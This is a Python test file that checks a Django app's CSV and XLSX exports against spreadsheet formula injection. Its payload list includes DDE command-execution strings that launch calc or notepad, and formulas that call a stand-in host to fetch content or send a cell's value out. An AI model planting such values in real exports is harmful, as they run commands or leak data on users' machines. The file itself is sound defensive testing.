"""What people write stays text in every table that leaves: no cell runs, in CSV or XLSX, with commas or semicolons."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from itertools import product

from django.http import FileResponse
from hypothesis import given
from hypothesis import strategies as st

from tenants.exports import csv_file, xlsx_file
from tenants.kernel.cells import harmless

BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", '"', "'", "x;", "x;\t", "x\n", "x\t", 'a"; "')
BODIES = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+62812345",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://x.test";"klik")',
    "=IMPORTXML(CONCAT(\"http://x.test/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.test\")",
    "+cmd|' /C notepad'!A0",
    "-cmd|' /C notepad'!A0",
    "@cmd|' /C notepad'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\uff1d1+1",
    "=1+1;=2+2",
)  # fmt: skip
PAYLOADS = [before + body for before, body in product(BEFORE, BODIES)]


def text_of(answer: FileResponse) -> bytes:
    return b"".join(answer.streaming_content)  # type: ignore[arg-type]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula; generous, as spreadsheets are."""
    seen = re.sub(r"^[\s\"\u200b\ufeff\u00a0]+", "", cell)
    return seen[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def cells_of(written: str) -> list[str]:
    """Every cell that a reader sees, whichever of two separators it goes by."""
    return [
        cell
        for separator in ",;"
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator)
        for cell in row
    ]


def test_two_hundred_attacks_stay_text_in_csv() -> None:
    assert len(PAYLOADS) >= 200
    for payload in PAYLOADS:
        written = text_of(csv_file("t", [["name", "total"], [payload, 5]])).decode("utf-8-sig")
        assert not [cell for cell in cells_of(written) if runs(cell)], repr(payload)


def test_two_hundred_attacks_stay_text_in_xlsx() -> None:
    book = zipfile.ZipFile(io.BytesIO(text_of(xlsx_file("t", [["name"], *([payload] for payload in PAYLOADS)]))))
    page = book.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >]|<hyperlink", page)
    # Each one is a cell of text, spelt out.
    assert page.count('t="inlineStr"') == len(PAYLOADS) + 1


@given(st.text(max_size=40))
def test_no_text_runs(text: str) -> None:
    assert not runs(str(harmless(text)))


def test_numbers_and_plain_words_stay_what_they_are() -> None:
    words = ["Beras 50 kg", "Jl. Mawar 1; RT 3", "", "12-14", "Rp 5.000", "a=b", "surat@contoh.test"]
    assert [harmless(word) for word in words] == words
    assert [harmless(number) for number in (-5, 0, None)] == [-5, 0, None]
    written = text_of(csv_file("t", [["n", -5, None]])).decode()
    assert written == "\ufeffn,-5,\r\n"
    page = zipfile.ZipFile(io.BytesIO(text_of(xlsx_file("t", [["n"], [-5], [2**60]])))).read("xl/worksheets/sheet1.xml")
    assert b"<v>-5</v>" in page and str(2**60).encode() in page
